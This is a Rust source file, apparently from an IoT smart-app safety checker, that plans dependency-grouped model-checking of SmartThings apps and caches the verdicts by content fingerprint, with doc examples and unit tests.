            value: Value::Str("Away".into()),
            physical: false,
        };
        assert_eq!(e.to_string(), "mode=Away");
    }
}
