//! Group-wise verification planning: depgraph-partitioned fleet checking
//! with content-addressed result caching.
//!
//! IotSan's scalability story (§5, Table 7a) is that the model checker never
//! sees the whole household at once: the App Dependency Analyzer partitions
//! the installed apps into *related groups*, each group is verified
//! independently, and the Output Analyzer attributes the violations.  The
//! [`VerificationPlanner`] turns that decomposition into an operational
//! subsystem:
//!
//! ```text
//!   installed bundle ──▶ plan() ────────────▶ FleetPlan (one GroupJob per
//!        │                 iotsan-depgraph        related app group, keyed by
//!        │                 related_sets           a content Fingerprint)
//!        ▼                                          │
//!   execute(plan, cache) ◀──────────────────────────┘
//!        │  cache hit  → reuse the stored SearchReport
//!        │  cache miss → bounded model checking (ParallelChecker)
//!        ▼
//!   FleetReport — deterministically merged groups, cache statistics, and
//!   per-violation suspect rankings from the counterexample traces
//!   (iotsan-attribution).
//! ```
//!
//! The cache key ([`Fingerprint`]) covers the group's sorted app IRs, its
//! restricted device configuration, the property set and the model/search
//! options that can change a verdict — so re-verifying a fleet after one app
//! changes only re-checks the groups containing that app:
//!
//! ```
//! use iotsan::{translate_sources, Pipeline, VerificationCache};
//! use iotsan_config::{expert_configure, standard_household};
//!
//! let sources = [r#"
//! definition(name: "Brighten My Path", namespace: "st", author: "x", description: "d")
//! preferences {
//!     section("s") { input "motionSensor", "capability.motionSensor" }
//!     section("s") { input "lights", "capability.switch", multiple: true }
//! }
//! def installed() { subscribe(motionSensor, "motion.active", onMotion) }
//! def onMotion(evt) { lights.on() }
//! "#];
//! let apps = translate_sources(&sources).unwrap();
//! let config = expert_configure(&apps, &standard_household());
//! let pipeline = Pipeline::with_events(1);
//! let mut cache = VerificationCache::new();
//!
//! let cold = pipeline.verify_fleet(&apps, &config, &mut cache);
//! assert_eq!(cold.cache_misses, cold.groups.len());
//!
//! // Nothing changed: the warm rerun touches no model checker at all and
//! // reports exactly the same outcome.
//! let warm = pipeline.verify_fleet(&apps, &config, &mut cache);
//! assert!(warm.groups.iter().all(|g| g.from_cache));
//! assert_eq!(warm.outcome(), cold.outcome());
//! ```

use crate::pipeline::{GroupResult, Pipeline};
use iotsan_attribution::{attribute_traces, TraceAttribution};
use iotsan_checker::{SearchConfig, SearchReport};
use iotsan_config::SystemConfig;
use iotsan_depgraph::analyze;
use iotsan_ir::IrApp;
use iotsan_telemetry::METRICS;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// A content hash identifying one group-verification task.
///
/// Two jobs with the same fingerprint verify the same sorted app IRs against
/// the same restricted device configuration, property set, model options and
/// search shape — so one job's [`SearchReport`] can stand in for the
/// other's.  Worker and shard counts are deliberately *excluded* for
/// exhaustive searches over exact or hash-compact storage: there the
/// parallel engine's deterministic merge reports the same verdict as the
/// sequential one, so a cache warmed sequentially stays valid for parallel
/// reruns (and vice versa).  For *order-dependent* searches — BITSTATE
/// storage (admission depends on insertion order) or
/// [`SearchConfig::stop_at_first`] — workers and shards **are** part of the
/// fingerprint, since different engine shapes can legitimately report
/// different results there and a replay must not masquerade as a different
/// engine's verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Fingerprint(pub u64);

impl fmt::Display for Fingerprint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:016x}", self.0)
    }
}

/// 64-bit FNV-1a over length-prefixed items (the length prefix keeps
/// concatenated fields from aliasing across boundaries).
struct Fnv(u64);

impl Fnv {
    fn new() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }

    fn write_bytes(&mut self, bytes: &[u8]) {
        for b in bytes {
            self.0 ^= u64::from(*b);
            self.0 = self.0.wrapping_mul(0x100_0000_01b3);
        }
    }

    fn write_item(&mut self, item: &str) {
        self.write_bytes(&(item.len() as u64).to_le_bytes());
        self.write_bytes(item.as_bytes());
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

/// Computes the content fingerprint of one group-verification task.
///
/// The ingredients are the group's app IRs (sorted by name, so member order
/// never matters), the device configuration the group is verified under, the
/// property set, and the model/search options that can change the verdict
/// ([`crate::model::ModelOptions`] plus the result-relevant
/// [`SearchConfig`] fields — depth, caps, mode, store, stop-at-first).
/// The wall-clock budget is always excluded (a budget-truncated report is
/// never cached); worker/shard counts are excluded only when the search is
/// deterministic across engine shapes — see [`Fingerprint`].
pub fn fingerprint_group(
    pipeline: &Pipeline,
    apps: &[IrApp],
    config: &SystemConfig,
) -> Fingerprint {
    let mut h = Fnv::new();
    let mut sorted: Vec<&IrApp> = apps.iter().collect();
    sorted.sort_by(|a, b| a.name.cmp(&b.name));
    for app in sorted {
        h.write_item(&format!("{app:?}"));
    }
    h.write_item(&format!("{config:?}"));
    // Spec content hash, not a Debug rendering: every property's id,
    // metadata and formula AST feeds the fingerprint, so adding or editing a
    // (custom) spec invalidates exactly the cached verdicts computed under a
    // different property set — and nothing else.
    h.write_bytes(&pipeline.properties.content_hash().to_le_bytes());
    h.write_item(&format!("{:?}", pipeline.model_options));
    let SearchConfig {
        max_depth,
        max_states,
        max_transitions,
        mode,
        store,
        stop_at_first,
        workers,
        shards,
        slice,
        ..
    } = &pipeline.search;
    h.write_item(&format!(
        "{:?}",
        (max_depth, max_states, max_transitions, mode, store, stop_at_first)
    ));
    // Sliced and unsliced runs explore the same verdicts but different state
    // counts; fold the analysis version and the concrete slice partition so
    // their cached reports never masquerade as each other, and so any change
    // to the slicing semantics invalidates sliced entries wholesale.
    if *slice {
        let plan = iotsan_analysis::slice_plan(apps, &pipeline.properties_for(config));
        h.write_item("slice");
        h.write_bytes(&iotsan_analysis::ANALYSIS_VERSION.to_le_bytes());
        h.write_bytes(&plan.content_hash().to_le_bytes());
    }
    // BITSTATE admission depends on insertion order, and a stop-at-first
    // search is order-dependent in any engine: there the engine shape is
    // part of the task identity, so a replay can never masquerade as a
    // different engine's verdict.
    let order_dependent =
        matches!(store, iotsan_checker::StoreKind::Bitstate { .. }) || *stop_at_first;
    if order_dependent {
        h.write_item(&format!("{:?}", (workers.max(&1), shards)));
    }
    Fingerprint(h.finish())
}

/// One scheduled model-checking job: a related group of apps, the
/// configuration slice it observes, and its cache key.
#[derive(Debug, Clone, PartialEq)]
pub struct GroupJob {
    /// The display names of the group's apps, sorted.
    pub apps: Vec<String>,
    /// The IR of the group's apps (same order as [`GroupJob::apps`]).
    pub members: Vec<IrApp>,
    /// The system configuration restricted to the devices this group's apps
    /// actually observe (see [`Pipeline::restrict_config`]).
    pub config: SystemConfig,
    /// Total number of event handlers in the group — the cost estimate the
    /// scheduler orders jobs by.
    pub handler_count: usize,
    /// The content-addressed cache key of this job.
    pub fingerprint: Fingerprint,
}

/// The verification schedule for one installed-app bundle.
///
/// Jobs are ordered largest-first (by handler count, ties broken by app
/// names), so the most expensive group starts first; the merged
/// [`FleetReport`] is sorted by app names regardless of schedule order.
#[derive(Debug, Clone, PartialEq)]
pub struct FleetPlan {
    /// The scheduled jobs, one per related app group.
    pub jobs: Vec<GroupJob>,
    /// Apps excluded from verification because they discover devices
    /// dynamically (§10.1).
    pub excluded_apps: Vec<String>,
    /// Total number of event handlers before dependency analysis.
    pub original_handlers: usize,
    /// Number of event handlers in the largest related set.
    pub reduced_handlers: usize,
}

impl FleetPlan {
    /// The jobs whose group contains `app`, in schedule order.
    pub fn jobs_for(&self, app: &str) -> Vec<&GroupJob> {
        self.jobs.iter().filter(|j| j.apps.iter().any(|a| a == app)).collect()
    }
}

/// A pluggable durable backing for the [`VerificationCache`].
///
/// The in-memory cache dies with the process; a persistence layer (such as
/// `iotsan-daemon`'s append-only `VerdictStore`) keeps complete group
/// verdicts across restarts.  The cache consults the backing on every
/// in-memory miss and writes through on every insert, so the backing sees
/// exactly the complete (never truncated) results the cache itself admits.
///
/// Implementations own their error handling: a backing that fails to load
/// must return `None` (the group is then re-verified — always sound), and a
/// failed store must not corrupt previously persisted verdicts.
///
/// ```
/// use iotsan::{Fingerprint, GroupResult, VerdictPersistence, VerificationCache};
/// use std::collections::BTreeMap;
/// use std::sync::{Arc, Mutex};
///
/// /// A toy persistence layer: a shared map standing in for a disk store.
/// #[derive(Debug, Clone, Default)]
/// struct Shared(Arc<Mutex<BTreeMap<Fingerprint, GroupResult>>>);
///
/// impl VerdictPersistence for Shared {
///     fn load(&mut self, fingerprint: Fingerprint) -> Option<GroupResult> {
///         self.0.lock().unwrap().get(&fingerprint).cloned()
///     }
///     fn store(&mut self, fingerprint: Fingerprint, result: &GroupResult) -> bool {
///         self.0.lock().unwrap().insert(fingerprint, result.clone());
///         true
///     }
/// }
///
/// let durable = Shared::default();
/// let mut first = VerificationCache::new().with_backing(Box::new(durable.clone()));
/// // ... verify_fleet populates `first`, writing through to `durable` ...
/// drop(first); // "process exit"
///
/// // A fresh cache over the same backing replays the persisted verdicts.
/// let mut restarted = VerificationCache::new().with_backing(Box::new(durable));
/// assert_eq!(restarted.backing_hits(), 0);
/// ```
pub trait VerdictPersistence: fmt::Debug + Send {
    /// Fetches the persisted result for `fingerprint`, or `None` when absent
    /// (or unreadable — re-verifying is always sound).
    fn load(&mut self, fingerprint: Fingerprint) -> Option<GroupResult>;

    /// Persists `result` under `fingerprint`, replacing any previous entry.
    ///
    /// Returns whether the entry was made durable.  `false` means the
    /// verdict lives only in memory — still sound (the group re-verifies
    /// after a restart), but the caller counts it
    /// ([`VerificationCache::persist_failures`]) so a degraded persistence
    /// layer is visible instead of silent.
    fn store(&mut self, fingerprint: Fingerprint, result: &GroupResult) -> bool;
}

/// A content-addressed store of group verification results.
///
/// Keys are [`Fingerprint`]s; values are complete group reports.  Only
/// *complete* searches are ever inserted — a report truncated by a resource
/// cap or time budget depends on the budget that cut it off, so it is
/// recomputed every time.
///
/// Optionally backed by a [`VerdictPersistence`] layer: in-memory misses fall
/// through to the backing (counted by [`VerificationCache::backing_hits`]
/// when they succeed) and inserts write through, which is how
/// `iotsan-daemon` keeps verdicts warm across process restarts.
///
/// ```
/// use iotsan::{translate_sources, Pipeline, VerificationCache};
/// use iotsan_config::{expert_configure, standard_household};
///
/// let sources = [r#"
/// definition(name: "Light Follows Me", namespace: "st", author: "x", description: "d")
/// preferences {
///     section("s") { input "motionSensor", "capability.motionSensor" }
///     section("s") { input "lights", "capability.switch", multiple: true }
/// }
/// def installed() { subscribe(motionSensor, "motion.active", onMotion) }
/// def onMotion(evt) { lights.on() }
/// "#];
/// let apps = translate_sources(&sources).unwrap();
/// let config = expert_configure(&apps, &standard_household());
/// let mut cache = VerificationCache::new();
/// assert!(cache.is_empty());
///
/// Pipeline::with_events(1).verify_fleet(&apps, &config, &mut cache);
/// assert_eq!(cache.len(), 1);
/// assert_eq!((cache.hits(), cache.misses()), (0, 1));
///
/// Pipeline::with_events(1).verify_fleet(&apps, &config, &mut cache);
/// assert_eq!((cache.hits(), cache.misses()), (1, 1));
///
/// cache.clear();
/// assert!(cache.is_empty());
/// ```
#[derive(Debug, Default)]
pub struct VerificationCache {
    entries: BTreeMap<Fingerprint, GroupResult>,
    hits: usize,
    misses: usize,
    backing: Option<Box<dyn VerdictPersistence>>,
    backing_hits: usize,
    persist_failures: usize,
}

impl VerificationCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of cached group results.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when nothing is cached.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Drops every in-memory entry (the lifetime hit/miss counters and any
    /// durable backing are kept — a backed cache repopulates from disk).
    pub fn clear(&mut self) {
        self.entries.clear();
    }

    /// Lifetime number of successful lookups.
    pub fn hits(&self) -> usize {
        self.hits
    }

    /// Lifetime number of failed lookups.
    pub fn misses(&self) -> usize {
        self.misses
    }

    /// Lifetime hit rate in `[0, 1]` (`0.0` before the first lookup).
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }

    /// Attaches a durable backing (builder style); see
    /// [`VerdictPersistence`].  Replaces any previous backing.
    pub fn with_backing(mut self, backing: Box<dyn VerdictPersistence>) -> Self {
        self.backing = Some(backing);
        self
    }

    /// True when a durable backing is attached.
    pub fn has_backing(&self) -> bool {
        self.backing.is_some()
    }

    /// Lifetime number of lookups served by the durable backing (a subset of
    /// [`VerificationCache::hits`]): in-memory misses that the persistence
    /// layer answered.
    pub fn backing_hits(&self) -> usize {
        self.backing_hits
    }

    /// Lifetime number of inserts the durable backing failed to persist
    /// (the verdicts stayed correct in memory but will re-verify after a
    /// restart) — the counter behind `iotsan-daemon`'s degraded-mode
    /// reporting.
    pub fn persist_failures(&self) -> usize {
        self.persist_failures
    }

    /// Looks up a group result by fingerprint, counting a hit or a miss.
    ///
    /// An in-memory miss falls through to the durable backing (when one is
    /// attached); a successful backing load is promoted into memory and
    /// counted as both a hit and a backing hit.
    pub fn lookup(&mut self, fingerprint: Fingerprint) -> Option<GroupResult> {
        if let Some(result) = self.entries.get(&fingerprint) {
            self.hits += 1;
            METRICS.cache_hits.inc();
            return Some(result.clone());
        }
        if let Some(backing) = self.backing.as_mut() {
            if let Some(result) = backing.load(fingerprint) {
                self.hits += 1;
                self.backing_hits += 1;
                METRICS.cache_hits.inc();
                METRICS.cache_backing_hits.inc();
                self.entries.insert(fingerprint, result.clone());
                return Some(result);
            }
        }
        self.misses += 1;
        METRICS.cache_misses.inc();
        None
    }

    /// Stores a group result under its fingerprint, writing through to the
    /// durable backing when one is attached.  A backing that fails to
    /// persist is counted ([`VerificationCache::persist_failures`]); the
    /// in-memory entry is kept either way, so lookups stay correct.
    pub fn insert(&mut self, fingerprint: Fingerprint, result: GroupResult) {
        if let Some(backing) = self.backing.as_mut() {
            if !backing.store(fingerprint, &result) {
                self.persist_failures += 1;
                METRICS.cache_persist_failures.inc();
            }
        }
        self.entries.insert(fingerprint, result);
    }
}

/// The merged verdict for one group within a [`FleetReport`].
#[derive(Debug, Clone)]
pub struct FleetGroupReport {
    /// The group's apps, sorted by name.
    pub apps: Vec<String>,
    /// The group's cache key.
    pub fingerprint: Fingerprint,
    /// True when the report was served from the cache without running the
    /// model checker.
    pub from_cache: bool,
    /// The checker's report (violations + statistics).
    pub report: SearchReport,
    /// Per-violation suspect rankings derived from the counterexample traces
    /// (see [`iotsan_attribution::attribute_traces`]).
    pub attributions: Vec<TraceAttribution>,
}

impl FleetGroupReport {
    /// The ids of properties violated in this group.
    pub fn violated_properties(&self) -> BTreeSet<u32> {
        self.report.violated_properties()
    }

    /// The timing-free projection of this group's verdict.
    pub fn outcome(&self) -> GroupOutcome {
        GroupOutcome {
            apps: self.apps.clone(),
            violated_properties: self.violated_properties(),
            states_stored: self.report.stats.states_stored,
            transitions: self.report.stats.transitions,
        }
    }
}

/// The comparable (timing-free) projection of one group's verdict: a cached
/// replay and a cold run report different wall-clock times but must agree on
/// everything here.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GroupOutcome {
    /// The group's apps, sorted by name.
    pub apps: Vec<String>,
    /// Ids of the properties the group violates.
    pub violated_properties: BTreeSet<u32>,
    /// Distinct states stored while verifying the group.
    pub states_stored: usize,
    /// Transitions applied while verifying the group.
    pub transitions: usize,
}

/// The deterministically merged result of verifying a whole fleet.
///
/// Groups are sorted by their app names, so two runs over the same bundle —
/// regardless of schedule order, worker count or cache warmth — render
/// identically.
#[derive(Debug, Clone, Default)]
pub struct FleetReport {
    /// Per-group verdicts, sorted by app names.
    pub groups: Vec<FleetGroupReport>,
    /// Apps excluded because they discover devices dynamically.
    pub excluded_apps: Vec<String>,
    /// Total number of event handlers before dependency analysis.
    pub original_handlers: usize,
    /// Number of event handlers in the largest related set.
    pub reduced_handlers: usize,
    /// Groups served from the cache in this run.
    pub cache_hits: usize,
    /// Groups that had to be model-checked in this run.
    pub cache_misses: usize,
    /// Groups verified in this run whose verdict the durable backing
    /// failed to persist (they re-verify after a restart): non-zero means
    /// the persistence layer ran degraded while this fleet was verified.
    pub persist_failures: usize,
}

impl FleetReport {
    /// The distinct properties violated anywhere in the fleet.
    pub fn violated_properties(&self) -> BTreeSet<u32> {
        self.groups.iter().flat_map(|g| g.violated_properties()).collect()
    }

    /// True when any group violated any property.
    pub fn has_violations(&self) -> bool {
        self.groups.iter().any(|g| g.report.has_violations())
    }

    /// Total number of `(property, group)` violation pairs.
    pub fn violation_count(&self) -> usize {
        self.groups.iter().map(|g| g.report.violations.len()).sum()
    }

    /// This run's cache hit rate in `[0, 1]` (`0.0` for an empty fleet).
    pub fn cache_hit_rate(&self) -> f64 {
        let total = self.cache_hits + self.cache_misses;
        if total == 0 {
            0.0
        } else {
            self.cache_hits as f64 / total as f64
        }
    }

    /// The dependency-analysis scale ratio (original handler count over the
    /// largest related set's handler count); `1.0` for an empty fleet, same
    /// convention as [`iotsan_depgraph::RelatedSets::scale_ratio`].
    pub fn scale_ratio(&self) -> f64 {
        if self.reduced_handlers == 0 {
            1.0
        } else {
            self.original_handlers as f64 / self.reduced_handlers as f64
        }
    }

    /// The timing-free projection of the whole fleet verdict, for comparing
    /// a warm (cached) run against a cold one.
    pub fn outcome(&self) -> Vec<GroupOutcome> {
        self.groups.iter().map(|g| g.outcome()).collect()
    }

    /// The group reports whose group contains `app`.
    pub fn groups_containing(&self, app: &str) -> Vec<&FleetGroupReport> {
        self.groups.iter().filter(|g| g.apps.iter().any(|a| a == app)).collect()
    }
}

/// Plans and executes group-wise fleet verification for a [`Pipeline`].
///
/// Planning is deterministic: the same bundle yields the same jobs with the
/// same fingerprints, which is what makes the [`VerificationCache`] useful
/// across runs.
///
/// ```
/// use iotsan::{translate_sources, Pipeline, VerificationPlanner};
/// use iotsan_config::{expert_configure, standard_household};
///
/// // Two apps with no event-chain between them: two independent jobs.
/// let sources = [r#"
/// definition(name: "Brighten My Path", namespace: "st", author: "x", description: "d")
/// preferences {
///     section("s") { input "motionSensor", "capability.motionSensor" }
///     section("s") { input "lights", "capability.switch", multiple: true }
/// }
/// def installed() { subscribe(motionSensor, "motion.active", onMotion) }
/// def onMotion(evt) { lights.on() }
/// "#, r#"
/// definition(name: "Auto Mode Change", namespace: "st", author: "x", description: "d")
/// preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
/// def installed() { subscribe(people, "presence", presenceHandler) }
/// def presenceHandler(evt) { setLocationMode("Away") }
/// "#];
/// let apps = translate_sources(&sources).unwrap();
/// let config = expert_configure(&apps, &standard_household());
/// let pipeline = Pipeline::with_events(1);
///
/// let plan = VerificationPlanner::new(&pipeline).plan(&apps, &config);
/// assert_eq!(plan.jobs.len(), 2);
/// assert_eq!(plan.jobs_for("Brighten My Path").len(), 1);
/// // Planning is a pure function of the bundle.
/// assert_eq!(plan, VerificationPlanner::new(&pipeline).plan(&apps, &config));
/// ```
#[derive(Debug, Clone, Copy)]
pub struct VerificationPlanner<'a> {
    pipeline: &'a Pipeline,
}

impl<'a> VerificationPlanner<'a> {
    /// Creates a planner for `pipeline`.
    pub fn new(pipeline: &'a Pipeline) -> Self {
        VerificationPlanner { pipeline }
    }

    /// Partitions `apps` into related groups (via
    /// [`iotsan_depgraph::analyze`]) and schedules one fingerprinted
    /// model-checking job per group, largest first.
    pub fn plan(&self, apps: &[IrApp], config: &SystemConfig) -> FleetPlan {
        let excluded_apps: Vec<String> =
            apps.iter().filter(|a| a.dynamic_discovery).map(|a| a.name.clone()).collect();
        let verifiable: Vec<IrApp> =
            apps.iter().filter(|a| !a.dynamic_discovery).cloned().collect();

        let (graph, sets) = analyze(&verifiable);
        let original_handlers = graph.handler_count();
        let reduced_handlers = sets.largest_handler_count(&graph);

        let groups = if sets.is_empty() { Vec::new() } else { sets.app_groups(&graph) };
        let mut jobs: Vec<GroupJob> = Vec::with_capacity(groups.len());
        for group in groups {
            let mut members: Vec<IrApp> =
                verifiable.iter().filter(|a| group.contains(&a.name)).cloned().collect();
            if members.is_empty() {
                continue;
            }
            members.sort_by(|a, b| a.name.cmp(&b.name));
            let restricted = self.pipeline.restrict_config(&members, config);
            let fingerprint = fingerprint_group(self.pipeline, &members, &restricted);
            METRICS.planner_group_size.observe(members.len() as u64);
            jobs.push(GroupJob {
                apps: members.iter().map(|a| a.name.clone()).collect(),
                handler_count: members.iter().map(|a| a.handlers.len()).sum(),
                members,
                config: restricted,
                fingerprint,
            });
        }
        // Largest job first: when the checker itself runs multi-worker, the
        // most expensive group dominates fleet latency, so start it first.
        jobs.sort_by(|a, b| {
            b.handler_count.cmp(&a.handler_count).then_with(|| a.apps.cmp(&b.apps))
        });

        FleetPlan { jobs, excluded_apps, original_handlers, reduced_handlers }
    }

    /// Verifies a single planned job, bypassing the cache: translates the
    /// job's members and restricted configuration straight into one bounded
    /// model-checking run.
    ///
    /// This is the building block external schedulers (such as
    /// `iotsan-daemon`'s worker pool) use to run cache misses *outside* any
    /// cache lock: look up the fingerprint, release the lock, `verify_job`,
    /// re-acquire and [`VerificationCache::insert`] — keeping the model
    /// checker itself lock-free across workers.  Follow the same cache
    /// discipline as [`VerificationPlanner::execute`]: never insert a result
    /// whose report is truncated.
    pub fn verify_job(&self, job: &GroupJob) -> GroupResult {
        self.pipeline.verify_group_restricted(&job.members, job.config.clone())
    }

    /// Runs every job of `plan`, reusing cached results where the
    /// fingerprint matches, and merges the verdicts deterministically.
    ///
    /// Cache discipline: only complete (non-truncated) reports are inserted;
    /// a hit replays the stored report without touching the model checker.
    /// Violation traces are fed to [`iotsan_attribution::attribute_traces`]
    /// to rank each group's apps per violation.
    pub fn execute(&self, plan: &FleetPlan, cache: &mut VerificationCache) -> FleetReport {
        let mut groups: Vec<FleetGroupReport> = Vec::with_capacity(plan.jobs.len());
        let mut cache_hits = 0usize;
        let mut cache_misses = 0usize;
        let persist_failures_before = cache.persist_failures();
        for job in &plan.jobs {
            let (result, from_cache) = match cache.lookup(job.fingerprint) {
                Some(cached) => (cached, true),
                None => {
                    let fresh =
                        self.pipeline.verify_group_restricted(&job.members, job.config.clone());
                    if !fresh.report.stats.truncated {
                        cache.insert(job.fingerprint, fresh.clone());
                    }
                    (fresh, false)
                }
            };
            if from_cache {
                cache_hits += 1;
            } else {
                cache_misses += 1;
            }
            let attributions = attribute_traces(&result.apps, &result.report.violations);
            groups.push(FleetGroupReport {
                apps: result.apps,
                fingerprint: job.fingerprint,
                from_cache,
                report: result.report,
                attributions,
            });
        }
        groups.sort_by(|a, b| a.apps.cmp(&b.apps));
        FleetReport {
            groups,
            excluded_apps: plan.excluded_apps.clone(),
            original_handlers: plan.original_handlers,
            reduced_handlers: plan.reduced_handlers,
            cache_hits,
            cache_misses,
            persist_failures: cache.persist_failures() - persist_failures_before,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::translate_sources;
    use iotsan_config::{expert_configure, standard_household};

    const AUTO_MODE: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") { setLocationMode("Away") } else { setLocationMode("Home") }
}
"#;

    const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;

    const NIGHT_LIGHT: &str = r#"
definition(name: "Brighten My Path", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "motionSensor", "capability.motionSensor" }
    section("s") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(motionSensor, "motion.active", motionActiveHandler) }
def motionActiveHandler(evt) { lights.on() }
"#;

    fn bundle() -> (Vec<IrApp>, SystemConfig) {
        let apps = translate_sources(&[AUTO_MODE, UNLOCK_DOOR, NIGHT_LIGHT]).unwrap();
        let config = expert_configure(&apps, &standard_household());
        (apps, config)
    }

    #[test]
    fn plan_partitions_and_orders_largest_first() {
        let (apps, config) = bundle();
        let pipeline = Pipeline::with_events(1);
        let plan = VerificationPlanner::new(&pipeline).plan(&apps, &config);
        assert!(plan.jobs.len() >= 2, "plan: {plan:?}");
        for pair in plan.jobs.windows(2) {
            assert!(pair[0].handler_count >= pair[1].handler_count);
        }
        // The mode/lock chain is one group; the night light is another.
        assert_eq!(plan.jobs_for("Brighten My Path").len(), 1);
        assert!(plan
            .jobs_for("Auto Mode Change")
            .iter()
            .all(|j| j.apps.contains(&"Unlock Door".to_string())));
        assert_eq!(plan.original_handlers, 4);
    }

    #[test]
    fn fingerprints_are_stable_and_content_sensitive() {
        let (apps, config) = bundle();
        let pipeline = Pipeline::with_events(2);
        let planner = VerificationPlanner::new(&pipeline);
        let a = planner.plan(&apps, &config);
        let b = planner.plan(&apps, &config);
        assert_eq!(a, b);

        // Mutating one app's IR (not its event profile) changes only the
        // fingerprints of the jobs containing it.
        let mut mutated = apps.clone();
        mutated[2].description = "patched".into();
        let c = planner.plan(&mutated, &config);
        assert_eq!(a.jobs.len(), c.jobs.len());
        for (old, new) in a.jobs.iter().zip(&c.jobs) {
            assert_eq!(old.apps, new.apps);
            if old.apps.contains(&"Brighten My Path".to_string()) {
                assert_ne!(old.fingerprint, new.fingerprint);
            } else {
                assert_eq!(old.fingerprint, new.fingerprint);
            }
        }

        // A different search depth is a different task.
        let deeper = Pipeline::with_events(3);
        let d = VerificationPlanner::new(&deeper).plan(&apps, &config);
        for (old, new) in a.jobs.iter().zip(&d.jobs) {
            assert_ne!(old.fingerprint, new.fingerprint);
        }

        // Worker count is engine shape, not task identity: the cache stays
        // valid across sequential and parallel runs.
        let parallel = Pipeline::with_events(2).with_workers(4);
        let e = VerificationPlanner::new(&parallel).plan(&apps, &config);
        for (old, new) in a.jobs.iter().zip(&e.jobs) {
            assert_eq!(old.fingerprint, new.fingerprint);
        }
    }

    #[test]
    fn order_dependent_configs_key_on_engine_shape() {
        // Under BITSTATE storage (admission order-dependent) or stop-at-first
        // the engine shape is part of the task identity: a sequential verdict
        // must not replay as a parallel one.
        let (apps, config) = bundle();
        let mut sequential = Pipeline::with_events(2);
        sequential.search = sequential.search.clone().bitstate();
        let mut parallel = Pipeline::with_events(2).with_workers(4);
        parallel.search = parallel.search.clone().bitstate();
        let a = VerificationPlanner::new(&sequential).plan(&apps, &config);
        let b = VerificationPlanner::new(&parallel).plan(&apps, &config);
        for (seq, par) in a.jobs.iter().zip(&b.jobs) {
            assert_eq!(seq.apps, par.apps);
            assert_ne!(seq.fingerprint, par.fingerprint);
        }

        let mut first_seq = Pipeline::with_events(2);
        first_seq.search.stop_at_first = true;
        let mut first_par = Pipeline::with_events(2).with_workers(4);
        first_par.search.stop_at_first = true;
        let c = VerificationPlanner::new(&first_seq).plan(&apps, &config);
        let d = VerificationPlanner::new(&first_par).plan(&apps, &config);
        for (seq, par) in c.jobs.iter().zip(&d.jobs) {
            assert_ne!(seq.fingerprint, par.fingerprint);
        }
    }

    #[test]
    fn custom_properties_invalidate_fingerprints_exactly() {
        use iotsan_properties::{Expr, PropertySet, PropertySpec};
        let (apps, config) = bundle();
        let base = Pipeline::with_events(1);
        let custom_spec =
            PropertySpec::builder(46, "No Night mode, ever").never(Expr::mode_is("Night"));
        let custom =
            Pipeline::with_events(1).with_properties(PropertySet::all().with(custom_spec.clone()));

        let a = VerificationPlanner::new(&base).plan(&apps, &config);
        let b = VerificationPlanner::new(&custom).plan(&apps, &config);
        // Every group verifies every property, so a new spec invalidates all
        // cached verdicts...
        for (old, new) in a.jobs.iter().zip(&b.jobs) {
            assert_eq!(old.apps, new.apps);
            assert_ne!(old.fingerprint, new.fingerprint);
        }
        // ...while re-registering an identical spec reproduces identical
        // fingerprints, keeping warmed caches valid across runs.
        let again = Pipeline::with_events(1).with_properties(PropertySet::all().with(custom_spec));
        let c = VerificationPlanner::new(&again).plan(&apps, &config);
        assert_eq!(b, c);
    }

    #[test]
    fn slicing_is_part_of_task_identity() {
        let (apps, config) = bundle();
        let base = Pipeline::with_events(2);
        let mut sliced = Pipeline::with_events(2);
        sliced.search = sliced.search.clone().sliced();

        // Slicing changes what the checker explores, so a sliced verdict must
        // never replay as an unsliced one (or vice versa): every job's
        // fingerprint moves when the knob flips.
        let a = VerificationPlanner::new(&base).plan(&apps, &config);
        let b = VerificationPlanner::new(&sliced).plan(&apps, &config);
        for (plain, cut) in a.jobs.iter().zip(&b.jobs) {
            assert_eq!(plain.apps, cut.apps);
            assert_ne!(plain.fingerprint, cut.fingerprint);
        }

        // The sliced fingerprint is deterministic — warmed caches stay valid
        // across sliced runs of the same bundle and property set.
        let mut again = Pipeline::with_events(2);
        again.search = again.search.clone().sliced();
        let c = VerificationPlanner::new(&again).plan(&apps, &config);
        assert_eq!(b, c);
    }

    #[test]
    fn execute_caches_and_replays_identically() {
        let (apps, config) = bundle();
        let pipeline = Pipeline::with_events(2);
        let planner = VerificationPlanner::new(&pipeline);
        let plan = planner.plan(&apps, &config);
        let mut cache = VerificationCache::new();

        let cold = planner.execute(&plan, &mut cache);
        assert_eq!(cold.cache_misses, plan.jobs.len());
        assert_eq!(cold.cache_hits, 0);
        assert!(cold.has_violations());

        let warm = planner.execute(&plan, &mut cache);
        assert_eq!(warm.cache_hits, plan.jobs.len());
        assert_eq!(warm.cache_misses, 0);
        assert!((warm.cache_hit_rate() - 1.0).abs() < 1e-9);
        assert_eq!(warm.outcome(), cold.outcome());
        assert_eq!(warm.violated_properties(), cold.violated_properties());
    }

    #[test]
    fn truncated_reports_are_not_cached() {
